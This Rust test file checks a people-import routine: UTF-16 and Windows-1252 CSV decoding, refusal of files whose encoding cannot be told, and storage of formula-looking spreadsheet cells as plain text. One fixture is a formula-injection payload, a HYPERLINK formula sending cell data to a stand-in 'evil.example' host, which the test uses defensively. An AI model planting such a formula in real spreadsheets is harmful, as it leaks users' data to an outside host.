//! Text that must be read as the file means it: CSV in UTF-16 and Windows-1252 is read,
//! an encoding nobody can tell is refused, and formula-looking text is stored as text.

use super::*;

/// The text stored for the person with `email`: name, location and notes.
async fn stored_person(pool: &PgPool, email: &str) -> (String, String, String) {
    sqlx::query_as("SELECT name, location, notes FROM people WHERE email = $1")
        .bind(email)
        .fetch_one(pool)
        .await
        .unwrap()
}

const ACCENTED_CSV: &str = "Name,Email,Location\r\nZoë Müller,zoe@example.com,Köln – Süd\r\n";

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_utf16_is_read(pool: PgPool) {
    let dir = setup(&pool).await;
    let utf16 = file(&dir, "people-utf16.csv");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(ACCENTED_CSV.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(&utf16, bytes).unwrap();
    let outcome = run(&pool, &utf16, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let stored = stored_person(&pool, "zoe@example.com").await;
    assert_eq!(
        (stored.0.as_str(), stored.1.as_str()),
        ("Zoë Müller", "Köln – Süd")
    );
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_windows_1252_is_read(pool: PgPool) {
    let dir = setup(&pool).await;
    let latin = file(&dir, "people-1252.csv");
    let (bytes, _, unmappable) = encoding_rs::WINDOWS_1252.encode(ACCENTED_CSV);
    assert!(!unmappable);
    assert!(bytes.contains(&0xEB), "ë is one byte");
    std::fs::write(&latin, &bytes).unwrap();
    let outcome = run(&pool, &latin, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let stored = stored_person(&pool, "zoe@example.com").await;
    assert_eq!(
        (stored.0.as_str(), stored.1.as_str()),
        ("Zoë Müller", "Köln – Süd")
    );
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_an_encoding_we_cannot_tell_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    // Bytes Windows-1252 leaves undefined (0x81, 0x8D): neither UTF-8 nor 1252.
    let unknown = file(&dir, "people-unknown.csv");
    std::fs::write(&unknown, b"Name,Email\nJ\x81rgen \x8Dm,j@example.com\n").unwrap();
    assert_refused(&pool, &unknown, "unsupported_encoding").await;

    // UTF-8 for as far as the sniffer looks, then something else.
    let late = file(&dir, "people-late.csv");
    let mut bytes = b"Name,Email\n".to_vec();
    for row in 0..3_000 {
        bytes.extend(format!("Person {row},p{row}@example.com\n").as_bytes());
    }
    bytes.extend(b"M\xFCller,m@example.com\n");
    std::fs::write(&late, bytes).unwrap();
    assert_refused(&pool, &late, "unsupported_encoding").await;

    // UTF-16 without its byte-order mark: NUL bytes, so not text we can place.
    let bare = file(&dir, "people-utf16-bare.csv");
    let bytes: Vec<u8> = ACCENTED_CSV
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    std::fs::write(&bare, bytes).unwrap();
    assert_refused(&pool, &bare, "unsupported_type").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn formula_looking_text_is_stored_as_text(pool: PgPool) {
    let dir = setup(&pool).await;
    let formulas = file(&dir, "formulas.xlsx");
    let link = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
    xlsxwriter(&formulas, &["People"], |_, sheet| {
        for (column, header) in (0..).zip(["Name", "Email", "Location", "Notes"]) {
            sheet.write_string(0, column, header).unwrap();
        }
        for (column, value) in (0..).zip(["Eve", "eve@example.com", "@SUM(1+1)", link]) {
            // write_string: a text cell, never a formula.
            sheet.write_string(1, column, value).unwrap();
        }
    });
    let outcome = run(&pool, &formulas, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let (_, location, notes) = stored_person(&pool, "eve@example.com").await;
    assert_eq!((location.as_str(), notes.as_str()), ("@SUM(1+1)", link));
}
